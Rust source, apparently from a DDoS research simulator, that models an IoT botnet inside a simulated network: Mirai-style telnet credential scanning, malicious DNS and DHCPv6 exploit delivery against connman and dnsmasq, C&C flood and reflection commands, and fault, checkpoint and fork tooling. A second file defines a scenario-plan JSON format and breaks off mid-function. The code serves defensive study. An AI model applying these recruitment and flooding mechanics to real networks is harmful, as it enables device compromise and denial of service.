        // ---- Recruitment path ----
        let (dns_server, dhcp_injector, scanner) = match config.recruitment {
            Recruitment::MemoryError => {
                let connman_forge = ExploitForge::new(
                    Arc::new(catalog::connman_image(config.arch)),
                    config.strategy,
                    stage1.clone(),
                );
                let dnsmasq_forge = ExploitForge::new(
                    Arc::new(catalog::dnsmasq_image(config.arch)),
                    config.strategy,
                    stage1.clone(),
                );
                let dns = sim.install_app(
                    attacker_node,
                    Box::new(MaliciousDnsServer::new(connman_forge)),
                );
                let dhcp = sim.install_app(
                    attacker_node,
                    Box::new(Dhcpv6Injector::new(dnsmasq_forge, Duration::from_secs(5))),
                );
                (Some(dns), Some(dhcp), None)
            }
            Recruitment::CredentialScanner { .. } => {
                let scanner = sim.install_app(
                    attacker_node,
                    Box::new(TelnetScanner::new(
                        telnet_targets,
                        mirai_dictionary(),
                        stage1.clone(),
                    )),
                );
                (None, None, Some(scanner))
            }
            Recruitment::SelfPropagating { seeds, .. } => {
                // The attacker scans only the seed devices; the worm does
                // the rest.
                let seed_targets: Vec<_> = telnet_targets.into_iter().take(seeds).collect();
                let scanner = sim.install_app(
                    attacker_node,
                    Box::new(TelnetScanner::new(
                        seed_targets,
                        mirai_dictionary(),
                        stage1.clone(),
                    )),
                );
                (None, None, Some(scanner))
            }
        };

        // ---- Reboot controller (on the always-up fabric node) ----
        if config.reboot_rate_per_min > 0.0 {
            sim.install_app(
                fabric.root(),
                Box::new(crate::reboot::RebootController::new(
                    devs.iter().map(|d| (d.node, d.container.clone())).collect(),
                    config.reboot_rate_per_min,
                )),
            );
        }

        // ---- Churn controller (on the always-up fabric node) ----
        let churn_ctl = match config.churn {
            ChurnMode::None => None,
            mode => Some(sim.install_app(
                fabric.root(),
                Box::new(ChurnController::new(
                    FanChurnModel::PAPER,
                    mode,
                    devs.iter().map(|d| d.node).collect(),
                )),
            )),
        };

        // ---- Attack command (telnet into the C&C, §IV-A) ----
        let attack_target = if config.attack_over_ipv6 {
            tserver_m.addr_v6
        } else {
            tserver_m.addr_v4
        };
        let mut command = format!(
            "{} {} {} {}",
            config.attack.vector,
            attack_target,
            config.attack.port,
            config.attack.duration.as_secs()
        );
        if let Some(len) = config.attack.payload_bytes {
            command.push_str(&format!(" {len}"));
        }
        // Reflection vectors need a reflector address; the attacker's own
        // malicious resolver doubles as the open resolver, so append it
        // (the admin syntax accepts a lone trailing IP as the reflector).
        if config.attack.vector.needs_reflector() {
            command.push_str(&format!(" {}", attacker_m.addr_v4));
        }
        let mut schedule = vec![(SimTime::ZERO + config.attack_at, command)];
        for (at, line) in &config.admin_script {
            schedule.push((SimTime::ZERO + *at, line.clone()));
        }
        sim.install_app(
            attacker_node,
            Box::new(AdminConsole::new(attacker_m.addr_v4, schedule)),
        );

        // ---- Telemetry metrics sampler ----
        // A self-rescheduling tick: each firing samples the series and
        // schedules the next, stopping at the horizon. Unexecuted ticks
        // simply stay queued past `run_until`, costing nothing.
        if let Some(iv) = config.telemetry.metrics_interval {
            let st = SamplerState {
                interval: iv,
                horizon: SimTime::ZERO + config.sim_time,
                tserver: tserver_node,
                devs: devs.iter().map(|d| d.container.clone()).collect(),
                prev_sent: 0,
                prev_rx_bytes: 0,
            };
            sim.schedule_forkable_call(SimTime::ZERO + iv, "metrics.sample", st, sample_tick);
        }

        let mut instance = Ddosim {
            config,
            sim,
            runtime,
            devs,
            attacker_node,
            attacker_v4: attacker_m.addr_v4,
            attacker_container,
            tserver_node,
            tserver_v4: tserver_m.addr_v4,
            sink,
            cnc,
            dns_server,
            dhcp_injector,
            scanner,
            churn_ctl,
            honeypots,
            backup_cncs,
            memory_model: MemoryModel::default(),
            fabric,
            checkpoint_at: None,
            resume: None,
            saved_checkpoint: None,
            progress: PhaseProgress::default(),
        };
        // ---- Fault plan ----
        // An empty plan schedules nothing and never reaches the reseed, so
        // every RNG stream matches a plan-free run.
        if !instance.config.faults.is_empty() {
            instance.sim.reseed_fault_rng(
                instance
                    .config
                    .rng
                    .fault_seed(instance.config.seed, instance.config.faults.seed),
            );
            let plan = instance.config.faults.clone();
            instance.schedule_fault_plan(&plan)?;
        }
        instance.schedule_reconciler();
        Ok(instance)
    }

    /// Resolves a fault-plan target name to its node and container.
    fn resolve_fault_target(
        &self,
        name: &str,
    ) -> Result<(NodeId, Option<ContainerHandle>), String> {
        if name == "attacker" {
            return Ok((self.attacker_node, Some(self.attacker_container.clone())));
        }
        if name == "tserver" {
            return Ok((self.tserver_node, None));
        }
        name.strip_prefix("dev-")
            .and_then(|s| s.parse::<usize>().ok())
            .and_then(|i| self.devs.get(i))
            .map(|d| (d.node, Some(d.container.clone())))
            .ok_or_else(|| format!("fault plan targets unknown node '{name}'"))
    }

    fn fault_access_links(&self, name: &str, node: NodeId) -> Result<Vec<LinkId>, String> {
        let links = self.sim.node_p2p_links(node);
        if links.is_empty() {
            return Err(format!(
                "fault plan: node '{name}' has no point-to-point links"
            ));
        }
        Ok(links)
    }

    /// Schedules every fault of `plan` onto the event queue. Targets
    /// resolve here (names → nodes/links/containers) so a bad plan fails
    /// up front, not mid-run; the faults themselves interleave
    /// deterministically with everything else. Faults are scheduled as
    /// forkable calls, so pending ones survive [`Ddosim::fork`] — and a
    /// *suffix* fault plan can be layered onto a fork the same way
    /// (entries dated before the fork point fire immediately).
    ///
    /// # Errors
    ///
    /// Returns a message naming the first unresolvable target.
    pub fn schedule_fault_plan(&mut self, plan: &faults::FaultPlan) -> Result<(), String> {
        for fault in &plan.faults {
            let at = SimTime::ZERO + fault.at;
            let detail = fault.describe();
            match &fault.kind {
                faults::FaultKind::LinkDown { node } | faults::FaultKind::LinkUp { node } => {
                    let up = matches!(fault.kind, faults::FaultKind::LinkUp { .. });
                    let (node_id, _) = self.resolve_fault_target(node)?;
                    let links = self.fault_access_links(node, node_id)?;
                    self.sim.schedule_forkable_call(
                        at,
                        "fault.link_admin",
                        (node_id, links, up, detail),
                        fault_link_admin,
                    );
                }
                faults::FaultKind::LinkLoss { node, probability } => {
                    let (node_id, _) = self.resolve_fault_target(node)?;
                    let links = self.fault_access_links(node, node_id)?;
                    self.sim.schedule_forkable_call(
                        at,
                        "fault.link_loss",
                        (node_id, links, *probability, detail),
                        fault_link_loss,
                    );
                }
                faults::FaultKind::NodeCrash { node } => {
                    let (node_id, container) = self.resolve_fault_target(node)?;
                    self.sim.schedule_forkable_call(
                        at,
                        "fault.node_crash",
                        (node_id, container, detail),
                        fault_node_crash,
                    );
                }
                faults::FaultKind::NodeRestore { node } => {
                    let (node_id, _) = self.resolve_fault_target(node)?;
                    self.sim.schedule_forkable_call(
                        at,
                        "fault.node_restore",
                        (node_id, detail),
                        fault_node_restore,
                    );
                }
                faults::FaultKind::CncOutage { duration } => {
                    self.sim.schedule_forkable_call(
                        at,
                        "fault.cnc_outage",
                        (self.attacker_node, *duration, detail),
                        fault_cnc_outage,
                    );
                }
                faults::FaultKind::ContainerKill { node } => {
                    let (node_id, container) = self.resolve_fault_target(node)?;
                    let Some(container) = container else {
                        return Err(format!(
                            "fault plan: container_kill targets '{node}', which has no container"
                        ));
                    };
                    self.sim.schedule_forkable_call(
                        at,
                        "fault.container_kill",
                        (node_id, container, detail),
                        fault_container_kill,
                    );
                }
            }
        }
        Ok(())
    }

    /// Attaches an extra node to the simulated Internet (e.g. a benign
    /// client for the ML-defense use case) and returns its addresses.
    pub fn attach_extra_node(&mut self, name: &str, link: LinkConfig) -> StarMember {
        let node = self.sim.add_node(name);
        self.fabric.attach_core(&mut self.sim, node, link)
    }

    /// The central fabric node (the simulated Internet / upstream router,
    /// or the backbone in tiered mode) — where network-level defenses are
    /// naturally deployed.
    pub fn fabric_node(&self) -> NodeId {
        self.fabric.root()
    }

    /// Schedules the attacker-operator reconciliation loop: every 10 s
    /// until the attack, devices that never registered with the C&C get
    /// their "exploited" mark cleared so the exploit exchange restarts
    /// (covers lost exploit packets and devices that churned away
    /// mid-infection).
    fn schedule_reconciler(&mut self) {
        let (Some(dns), Some(dhcp)) = (self.dns_server, self.dhcp_injector) else {
            return;
        };
        let devs: Vec<(ContainerHandle, IpAddr, IpAddr)> = self
            .devs
            .iter()
            .map(|d| (d.container.clone(), d.addr_v4, d.addr_v6))
            .collect();
        // With reboots enabled, devices become susceptible again at any
        // point, so the operator keeps reconciling for the whole run.
        let horizon = if self.config.reboot_rate_per_min > 0.0 {
            self.config.sim_time
        } else {
            self.config.attack_at + self.config.attack.duration
        };
        let mut t = Duration::from_secs(10);
        while t < horizon {
            self.sim.schedule_forkable_call(
                SimTime::ZERO + t,
                "attacker.reconcile",
                (dns, dhcp, devs.clone()),
                reconcile_tick,
            );
            t += Duration::from_secs(10);
        }
    }

    /// The run's configuration.
    pub fn config(&self) -> &SimulationConfig {
        &self.config
    }

    /// The underlying simulator (for custom instrumentation, e.g. trace
    /// hooks for the ML-defense use case).
    pub fn sim_mut(&mut self) -> &mut Simulator {
        &mut self.sim
    }

    /// The run's telemetry handle. Clone it before
    /// [`Ddosim::run_to_completion`] (which consumes the instance) to read
    /// the flight recorder, capture, and metrics afterwards — clones share
    /// the collectors.
    pub fn telemetry(&self) -> &Telemetry {
        self.sim.telemetry()
    }

    /// Records a phase-boundary marker in the flight recorder.
    fn mark_phase(&self, detail: &str) {
        let now = self.sim.now().as_nanos();
        let detail = detail.to_owned();
        self.sim.telemetry().record_event(now, None, Category::Phase, || detail);
    }

    /// The Devs of this run.
    pub fn devs(&self) -> &[DevInfo] {
        &self.devs
    }

    /// TServer's node and IPv4 address.
    pub fn tserver(&self) -> (NodeId, IpAddr) {
        (self.tserver_node, self.tserver_v4)
    }

    /// The Attacker's node and IPv4 address.
    pub fn attacker(&self) -> (NodeId, IpAddr) {
        (self.attacker_node, self.attacker_v4)
    }

    /// The container runtime (memory accounting, infection telemetry).
    pub fn runtime(&self) -> &ContainerRuntime {
        &self.runtime
    }

    /// Current number of recruited Devs.
    pub fn infected_count(&self) -> usize {
        self.runtime.infected_count()
    }

    /// Currently connected bot count, as seen by the C&C.
    pub fn connected_bots(&self) -> usize {
        self.sim
            .app_ref::<CncServer>(self.cnc)
            .map(CncServer::bot_count)
            .unwrap_or(0)
    }

    /// Honeypot nodes (empty unless [`SimulationConfig::honeypots`] > 0):
    /// node, trap app, and address of each.
    pub fn honeypots(&self) -> &[(NodeId, AppId, IpAddr)] {
        &self.honeypots
    }

    /// Total telnet connections trapped across all honeypots.
    pub fn honeypot_hits(&self) -> u64 {
        self.honeypots
            .iter()
            .filter_map(|&(_, app, _)| {
                self.sim
                    .app_ref::<crate::honeypot::Honeypot>(app)
                    .map(|h| h.hits)
            })
            .sum()
    }

    /// Backup C&C hosts (empty unless [`SimulationConfig::backup_cncs`]
    /// > 0): node, server app, and listen address of each.
    pub fn backup_cncs(&self) -> &[(NodeId, AppId, SocketAddr)] {
        &self.backup_cncs
    }

    /// Bots currently registered across the backup C&C hosts — the
    /// headline takedown-resilience metric.
    pub fn backup_connected_bots(&self) -> usize {
        self.backup_cncs
            .iter()
            .filter_map(|&(_, app, _)| {
                self.sim.app_ref::<CncServer>(app).map(CncServer::bot_count)
            })
            .sum()
    }

    /// Runs until `t` of simulated time.
    pub fn run_until(&mut self, t: Duration) {
        self.sim.run_until(SimTime::ZERO + t);
    }

    /// Every stateful layer's digest, in a stable order: the simulator's
    /// own layers (event queue, nodes, links, Wi-Fi, TCP, RNG streams,
    /// stats, apps — the latter covering the bot FSMs, C&C registry,
    /// scanners, sinks, and controllers) plus the container runtime.
    pub fn state_digests(&self) -> Vec<(String, u64)> {
        let mut digests: Vec<(String, u64)> = self
            .sim
            .state_digests()
            .into_iter()
            .map(|(layer, d)| (layer.to_owned(), d))
            .collect();
        digests.push((
            "firmware".to_owned(),
            checkpoint::firmware_digest(&self.runtime),
        ));
        digests
    }

    /// Advances to `to`, honouring any armed resume/checkpoint marks that
    /// fall inside the window. The resume mark (digest verification +
    /// recorder splice + unsuppression) is handled *before* the save mark,
    /// so save→restore→save at the same instant is byte-stable.
    ///
    /// # Errors
    ///
    /// Returns a message when a checkpoint is requested before the resume
    /// point (the suppressed replay's recorder count is unknown there),
    /// or when the replayed world's digests diverge from the checkpoint.
    fn advance(&mut self, to: Duration) -> Result<(), String> {
        if let (Some(at), Some(cp)) = (self.checkpoint_at, &self.resume) {
            if at < cp.at {
                return Err(format!(
                    "cannot checkpoint at {:.3}s: this run resumes from a \
                     checkpoint taken at {:.3}s, and the replayed prefix \
                     records no telemetry (its recorder count is unknown); \
                     pick a checkpoint time at or after the resume point",
                    at.as_secs_f64(),
                    cp.at.as_secs_f64()
                ));
            }
        }
        if self.resume.as_ref().is_some_and(|cp| cp.at <= to) {
            let cp = self.resume.take().expect("checked above");
            self.run_until(cp.at);
            let here = self.state_digests();
            for (layer, expected) in &cp.digests {
                match here.iter().find(|(l, _)| l == layer) {
                    Some((_, got)) if got == expected => {}
                    Some((_, got)) => {
                        return Err(format!(
                            "resume diverged from the checkpoint in layer \
                             '{layer}' at {:.3}s: digest {got:#018x} != \
                             checkpointed {expected:#018x} (was the world \
                             rebuilt from the same configuration and binary?)",
                            cp.at.as_secs_f64()
                        ))
                    }
                    None => {
                        return Err(format!(
                            "resume verification failed: checkpoint layer \
                             '{layer}' is unknown to this build"
                        ))
                    }
                }
            }
            if here.len() != cp.digests.len() {
                return Err(format!(
                    "resume verification failed: this build digests {} \
                     layers but the checkpoint holds {}",
                    here.len(),
                    cp.digests.len()
                ));
            }
            let telemetry = self.sim.telemetry();
            telemetry.splice_recorder(cp.events_recorded);
            telemetry.set_suppressed(false);
        }
        if self.resume.is_none() && self.checkpoint_at.is_some_and(|at| at <= to) {
            let at = self.checkpoint_at.take().expect("checked above");
            self.run_until(at);
            self.saved_checkpoint = Some(Checkpoint {
                at,
                config: self.config.clone(),
                digests: self.state_digests(),
                events_recorded: self.sim.telemetry().events_recorded(),
            });
        }
        self.run_until(to);
        Ok(())
    }

    /// Runs the full scenario (initialization → infection → attack →
    /// drain) and collects the result, measuring per-phase wall-clock and
    /// memory as the paper's Table I does.
    ///
    /// Panics on checkpoint/resume failure; use
    /// [`Ddosim::try_run_to_completion`] when either is armed.
    pub fn run_to_completion(self) -> RunResult {
        let (result, _) = self
            .try_run_to_completion()
            .expect("no checkpoint/resume armed, so advancing cannot fail");
        result
    }

    /// Runs the full scenario like [`Ddosim::run_to_completion`], honouring
    /// an armed checkpoint ([`Ddosim::set_checkpoint_at`]) and/or resume
    /// ([`Ddosim::resume_from`]); returns the saved checkpoint (if one was
    /// armed) alongside the result.
    ///
    /// # Errors
    ///
    /// Returns a message if resume verification fails or the
    /// checkpoint/resume marks are inconsistent.
    pub fn try_run_to_completion(mut self) -> Result<(RunResult, Option<Checkpoint>), String> {
        let sim_end = self.config.sim_time;
        self.advance_phases(sim_end)?;
        if let Some(cp) = &self.resume {
            return Err(format!(
                "resume point {:.3}s lies beyond the simulation horizon \
                 {:.3}s (nothing would ever be recorded)",
                cp.at.as_secs_f64(),
                sim_end.as_secs_f64()
            ));
        }
        if let Some(at) = self.checkpoint_at {
            return Err(format!(
                "checkpoint time {:.3}s lies beyond the simulation horizon \
                 {:.3}s",
                at.as_secs_f64(),
                sim_end.as_secs_f64()
            ));
        }
        let saved = self.saved_checkpoint.take();
        let pre = self
            .progress
            .pre_attack
            .expect("validation puts the attack inside the horizon");
        let attack = self
            .progress
            .attack
            .expect("validation puts the attack inside the horizon");
        let wall = self.progress.attack_wall;
        let result = self.collect(
            pre.container_bytes,
            attack.container_bytes,
            attack.packets,
            wall,
            pre.infected,
            pre.bots,
        );
        Ok((result, saved))
    }

    /// Runs the scenario prefix up to `upto` of simulated time, emitting
    /// phase marks and taking phase measurements for every boundary
    /// crossed — the shared 0→T prefix of a checkpoint-forked scenario
    /// tree. Fork the instance here ([`Ddosim::fork_with_seed`]) and run
    /// each fork to completion; a seed-0 fork's trace is byte-identical to
    /// running this world straight through.
    ///
    /// # Errors
    ///
    /// Returns a message if an armed resume/checkpoint inside the window
    /// fails (see [`Ddosim::try_run_to_completion`]).
    pub fn run_prefix(&mut self, upto: Duration) -> Result<(), String> {
        self.advance_phases(upto)
    }

    /// The resumable phase walk: advances to `upto`, crossing (at most
    /// once, in order) the attack-start, attack-end, and horizon
    /// boundaries, each with its phase mark and measurements. Progress
    /// lives in [`PhaseProgress`], so the walk can stop anywhere and be
    /// continued — by this instance or by a fork of it.
    fn advance_phases(&mut self, upto: Duration) -> Result<(), String> {
        let attack_start = self.config.attack_at;
        let attack_end = attack_start + self.config.attack.duration;
        let sim_end = self.config.sim_time;
        let upto = upto.min(sim_end);
        if !self.progress.init_marked {
            self.mark_phase("phase: initialization + infection");
            self.progress.init_marked = true;
        }
        if self.progress.pre_attack.is_none() {
            if upto < attack_start {
                return self.advance(upto);
            }
            self.advance(attack_start)?;
            self.progress.pre_attack = Some(PreAttackSnapshot {
                container_bytes: self.runtime.total_memory_bytes(),
                packets: self.sim.stats().packets_sent,
                infected: self.infected_count(),
                bots: self.connected_bots(),
            });
            self.mark_phase("phase: attack window");
        }
        if self.progress.attack.is_none() {
            // The attack window's wall-clock (Table I's Attack Time)
            // accumulates across partial advances.
            let wall = Instant::now();
            self.advance(upto.min(attack_end))?;
            self.progress.attack_wall += wall.elapsed();
            if upto < attack_end {
                return Ok(());
            }
            let pre = self.progress.pre_attack.expect("set above");
            self.progress.attack = Some(AttackSnapshot {
                container_bytes: self.runtime.total_memory_bytes(),
                packets: self.sim.stats().packets_sent - pre.packets,
            });
            self.mark_phase("phase: drain");
        }
        self.advance(upto)?;
        if upto >= sim_end && !self.progress.complete {
            self.mark_phase("phase: run complete");
            self.progress.complete = true;
        }
        Ok(())
    }

    /// Forks the live world without any divergence: every RNG stream keeps
    /// its exact position, so the fork's future is byte-identical to the
    /// parent's. Shorthand for [`Ddosim::fork_with_seed`] with seed 0.
    ///
    /// # Errors
    ///
    /// See [`Ddosim::fork_with_seed`].
    pub fn fork(&self) -> Result<Ddosim, String> {
        self.fork_with_seed(0)
    }

    /// Deep-clones the live world into an independent instance — the
    /// in-memory fork behind checkpoint-forked scenario trees. Nothing is
    /// replayed: containers, the network world (pending events included),
    /// and telemetry (the flight recorder carries the shared prefix) are
    /// all duplicated at the current instant, and every layer digest is
    /// verified equal to the parent's before any divergence is applied.
    ///
    /// `fork_seed` selects the divergence point: 0 keeps both RNG streams
    /// at their exact positions (the fork replays the parent's future,
    /// byte for byte), while any other value re-derives the per-subsystem
    /// streams as `sim_seed ^ fork_seed ^ LAYER_TAG`, so K forks
    /// decorrelate deterministically — same `(world, T, fork_seed)` →
    /// same suffix, different `fork_seed` → independent futures.
    ///
    /// # Errors
    ///
    /// Returns a message when the world holds unforkable state (a deployed
    /// ingress filter, a pending opaque [`Simulator::schedule_call`]), when
    /// this run still has an unreached resume point (fork after the
    /// splice), or when the fork's digests diverge from the parent's (a
    /// bug in some layer's fork path).
    pub fn fork_with_seed(&self, fork_seed: u64) -> Result<Ddosim, String> {
        if self.resume.is_some() {
            return Err(
                "cannot fork a resumed run before its resume point: the \
                 suppressed replay prefix has no recorder state to share; \
                 run past the resume point first"
                    .into(),
            );
        }
        let mut map = ForkMap::new();
        let runtime = self.runtime.fork(&mut map);
        let mut sim = self.sim.fork(&map)?;
        let telemetry = self.sim.telemetry().deep_fork();
        sim.set_telemetry(telemetry.clone());
        if telemetry.captures_packets() {
            let hook = telemetry.clone();
            sim.set_trace(Box::new(move |rec: &TraceRecord| {
                hook.capture_packet(|| capture_record(rec));
            }));
        }
        let devs: Vec<DevInfo> = self
            .devs
            .iter()
            .map(|d| DevInfo {
                node: d.node,
                addr_v4: d.addr_v4,
                addr_v6: d.addr_v6,
                daemon: d.daemon,
                protections: d.protections,
                access_rate_kbps: d.access_rate_kbps,
                container: d.container.fork_clone(&map),
                daemon_app: d.daemon_app,
            })
            .collect();
        let mut fork = Ddosim {
            config: self.config.clone(),
            sim,
            runtime,
            devs,
            attacker_node: self.attacker_node,
            attacker_v4: self.attacker_v4,
            attacker_container: self.attacker_container.fork_clone(&map),
            tserver_node: self.tserver_node,
            tserver_v4: self.tserver_v4,
            sink: self.sink,
            cnc: self.cnc,
            dns_server: self.dns_server,
            dhcp_injector: self.dhcp_injector,
            scanner: self.scanner,
            churn_ctl: self.churn_ctl,
            honeypots: self.honeypots.clone(),
            backup_cncs: self.backup_cncs.clone(),
            memory_model: self.memory_model,
            fabric: self.fabric.clone(),
            checkpoint_at: self.checkpoint_at,
            resume: None,
            saved_checkpoint: None,
            progress: self.progress,
        };
        // fork ≡ parent at T, layer by layer, before any reseed diverges
        // the streams.
        let parent = self.state_digests();
        let child = fork.state_digests();
        for ((layer, p), (_, c)) in parent.iter().zip(child.iter()) {
            if p != c {
                return Err(format!(
                    "fork diverged from its parent in layer '{layer}' at \
                     {:.3}s: digest {c:#018x} != parent {p:#018x}",
                    self.sim.now().as_secs_f64()
                ));
            }
        }
        if fork_seed != 0 {
            fork.sim
                .reseed_rng(self.config.seed ^ fork_seed ^ FORK_TAG_MAIN);
            fork.sim
                .reseed_fault_rng(self.config.seed ^ fork_seed ^ FORK_TAG_FAULT);
        }
        Ok(fork)
    }

    /// Applies one scenario-tree suffix to this (freshly forked) world:
    /// extends or trims the horizon, layers the suffix's fault plan onto
    /// the queue, and opens a fresh attacker-console session for its extra
    /// commands. The fork seed is *not* applied here — pass it to
    /// [`Ddosim::fork_with_seed`], which reseeds before any suffix events
    /// are scheduled.
    ///
    /// Metric sampling keeps the original horizon (the sampler chain was
    /// scheduled at build time); the flight recorder and capture cover the
    /// full extended run.
    ///
    /// # Errors
    ///
    /// Returns a message when the new horizon lies before the attack end
    /// or the current instant, or when the fault plan names an unknown
    /// target.
    pub fn apply_suffix(&mut self, spec: &crate::suffix::SuffixSpec) -> Result<(), String> {
        if let Some(h) = spec.horizon {
            let attack_end = self.config.attack_at + self.config.attack.duration;
            if h < attack_end {
                return Err(format!(
                    "suffix '{}': horizon {:.3}s lies before the attack end {:.3}s",
                    spec.name,
                    h.as_secs_f64(),
                    attack_end.as_secs_f64()
                ));
            }
            if SimTime::ZERO + h < self.sim.now() {
                return Err(format!(
                    "suffix '{}': horizon {:.3}s lies before the fork point {:.3}s",
                    spec.name,
                    h.as_secs_f64(),
                    self.sim.now().as_secs_f64()
                ));
            }
            self.config.sim_time = h;
        }
        if !spec.faults.is_empty() {
            self.schedule_fault_plan(&spec.faults)?;
        }
        if !spec.admin_lines.is_empty() {
            let schedule: Vec<(SimTime, String)> = spec
                .admin_lines
                .iter()
                .map(|(at, line)| (SimTime::ZERO + *at, line.clone()))
                .collect();
            self.sim.install_app(
                self.attacker_node,
                Box::new(AdminConsole::new(self.attacker_v4, schedule)),
            );
        }
        Ok(())
    }

    fn collect(
        self,
        pre_attack_container_bytes: u64,
        attack_container_bytes: u64,
        attack_packets: u64,
        attack_wall_clock: Duration,
        infected_before_attack: usize,
        bots_at_command: usize,
    ) -> RunResult {
        let sink = self
            .sim
            .app_ref::<TServerSink>(self.sink)
            .expect("sink app lives for the whole run");
        let avg = sink.average_received_data_rate_kbps(
            self.config.attack_at,
            self.config.attack.duration,
        );
        let per_second_kbits: Vec<f64> = sink
            .per_second_bytes
            .iter()
            .map(|b| *b as f64 * 8.0 / 1000.0)
            .collect();
        let flood_packets_received = sink.flood_packets;
        let flood_bytes_received = sink.flood_bytes;

        let cnc = self
            .sim
            .app_ref::<CncServer>(self.cnc)
            .expect("C&C app lives for the whole run");
        let churn = self.churn_ctl.and_then(|id| {
            self.sim
                .app_ref::<ChurnController>(id)
                .map(|c| ChurnSummary {
                    departures: c.departures,
                    rejoins: c.rejoins,
                    down_at_end: c.down_count(),
                })
        });
        let scanner_summary = self.scanner.and_then(|id| {
            self.sim
                .app_ref::<TelnetScanner>(id)
                .map(|s| (s.successes.len(), s.attempts))
        });

        let infection_times_secs: Vec<f64> = self
            .runtime
            .infection_times()
            .iter()
            .map(|t| t.as_secs_f64())
            .collect();

        RunResult {
            devs: self.config.devs,
            churn: self.config.churn,
            attack_duration_secs: self.config.attack.duration.as_secs(),
            attack_at_secs: self.config.attack_at.as_secs(),
            seed: self.config.seed,
            avg_received_data_rate_kbps: avg,
            per_second_kbits,
            infected: self.runtime.infected_count(),
            infected_before_attack,
            bots_at_command,
            infection_rate: self.runtime.infected_count() as f64 / self.config.devs as f64,
            infection_times_secs,
            peak_bots: cnc.peak_bots,
            total_registrations: cnc.total_registrations,
            flood_packets_received,
            flood_bytes_received,
            pre_attack_mem_gb: bytes_to_gb(
                self.memory_model.pre_attack_bytes(pre_attack_container_bytes),
            ),
            attack_mem_gb: bytes_to_gb(
                self.memory_model
                    .attack_bytes(attack_container_bytes, attack_packets),
            ),
            attack_wall_clock_secs: attack_wall_clock.as_secs_f64(),
            packets_sent: self.sim.stats().packets_sent,
            packets_delivered: self.sim.stats().packets_delivered,
            packets_dropped: self.sim.stats().total_dropped(),
            churn_summary: churn,
            scanner_successes: scanner_summary.map(|(s, _)| s),
            scanner_attempts: scanner_summary.map(|(_, a)| a),
        }
    }
}
