//! Scenario-tree suffixes: the `ddosim.suffix/1` descriptor format.
//!
//! A scenario tree shares one expensive `0 → T` prefix across K
//! alternative futures: run the world once to the fork point, deep-clone
//! it in memory ([`crate::instance::Ddosim::fork_with_seed`]), apply each
//! suffix's divergence (a fork seed, extra faults, extra attacker
//! commands, a new horizon), and run the forks in parallel — the
//! prefix-sharing analogue of KV-cache reuse. A [`SuffixPlan`] is the
//! serialized form: the fork point plus one [`SuffixSpec`] per branch.

use crate::config::SimulationConfig;
use djson::{FromJson, Json, ToJson};
use faults::{check_schema, reject_unknown_fields, PlanError};
use std::time::Duration;

/// Schema tag written into every serialized suffix plan.
pub const SUFFIX_SCHEMA: &str = "ddosim.suffix/1";

/// One branch of a scenario tree: how a fork of the shared prefix
/// diverges from the parent's future.
#[derive(Debug, Clone, PartialEq)]
pub struct SuffixSpec {
    /// Row label in sweep output.
    pub name: String,
    /// Divergence seed: 0 replays the parent's future byte-for-byte;
    /// any other value re-derives the fork's RNG streams.
    pub fork_seed: u64,
    /// Extra faults layered onto the fork (absolute times; entries dated
    /// before the fork point fire immediately).
    pub faults: faults::FaultPlan,
    /// Extra attacker-console commands, `(at, line)` with absolute times
    /// (a fresh admin session telnets into the C&C on the fork).
    pub admin_lines: Vec<(Duration, String)>,
    /// Overrides the simulation horizon for this branch, when set.
    pub horizon: Option<Duration>,
}

impl SuffixSpec {
    /// A do-nothing suffix: seed 0, no extra faults or commands — the
    /// branch that must reproduce the parent's future exactly.
    pub fn identity(name: impl Into<String>) -> Self {
        SuffixSpec {
            name: name.into(),
            fork_seed: 0,
            faults: faults::FaultPlan::default(),
            admin_lines: Vec::new(),
            horizon: None,
        }
    }

    fn to_json(&self) -> Json {
        Json::obj([
            ("name", Json::Str(self.name.clone())),
            ("fork_seed", Json::U64(self.fork_seed)),
            ("faults", self.faults.to_json()),
            (
                "admin_lines",
                Json::Arr(
                    self.admin_lines
                        .iter()
                        .map(|(at, line)| {
                            Json::obj([
                                ("at_nanos", Json::U64(at.as_nanos() as u64)),
                                ("line", Json::Str(line.clone())),
                            ])
                        })
                        .collect(),
                ),
            ),
            (
                "horizon_nanos",
                match self.horizon {
                    None => Json::Null,
                    Some(h) => Json::U64(h.as_nanos() as u64),
                },
            ),
        ])
    }

    fn from_json(json: &Json) -> Result<SuffixSpec, String> {
        let admin_json = field(json, "admin_lines")?
            .as_array()
            .ok_or("field 'admin_lines' is not an array")?;
        let mut admin_lines = Vec::with_capacity(admin_json.len());
        for entry in admin_json {
            admin_lines.push((
                Duration::from_nanos(u64_field(entry, "at_nanos")?),
                str_field(entry, "line")?.to_owned(),
            ));
        }
        let horizon = field(json, "horizon_nanos")?;
        Ok(SuffixSpec {
            name: str_field(json, "name")?.to_owned(),
            fork_seed: u64_field(json, "fork_seed")?,
            faults: faults::FaultPlan::from_json(field(json, "faults")?)
                .map_err(|e| format!("fault plan: {e}"))?,
            admin_lines,
            horizon: if horizon.is_null() {
                None
            } else {
                Some(Duration::from_nanos(horizon.as_u64().ok_or(
                    "field 'horizon_nanos' is not an unsigned integer",
                )?))
            },
        })
    }
}

/// A full scenario tree: the fork point, the branches, and (optionally)
/// the base configuration the prefix runs under.
#[derive(Debug, Clone)]
pub struct SuffixPlan {
    /// Simulated time of the shared prefix's end (the fork point).
    pub fork_at: Duration,
    /// One entry per branch.
    pub suffixes: Vec<SuffixSpec>,
    /// The base world's configuration; `None` means "whatever world the
    /// caller already built" (the CLI fills it from its own flags).
    pub config: Option<SimulationConfig>,
}

impl SuffixPlan {
    /// Serializes the plan.
    pub fn to_json(&self) -> Json {
        Json::obj([
            ("schema", Json::Str(SUFFIX_SCHEMA.into())),
            ("fork_at_nanos", Json::U64(self.fork_at.as_nanos() as u64)),
            (
                "suffixes",
                Json::Arr(self.suffixes.iter().map(SuffixSpec::to_json).collect()),
            ),
            (
                "config",
                match &self.config {
                    None => Json::Null,
                    Some(c) => crate::checkpoint::config_to_json(c),
                },
            ),
        ])
    }

    /// Parses a serialized plan.
    ///
    /// # Errors
    ///
    /// Returns a message describing exactly what is wrong: invalid JSON,
    /// a missing, mistyped, or unknown field, or an unknown schema tag.
    /// Never panics on corrupted or truncated input.
    pub fn parse(text: &str) -> Result<SuffixPlan, String> {
        Self::parse_plan(text).map_err(String::from)
    }

    /// Like [`SuffixPlan::parse`], but surfaces the typed [`PlanError`]
    /// shared by every schema-tagged plan document in the workspace.
    ///
    /// # Errors
    ///
    /// A [`PlanError`] naming the first syntax, schema, unknown-field, or
    /// shape problem.
    pub fn parse_plan(text: &str) -> Result<SuffixPlan, PlanError> {
        const DOC: &str = "suffix plan";
        let json = Json::parse(text)
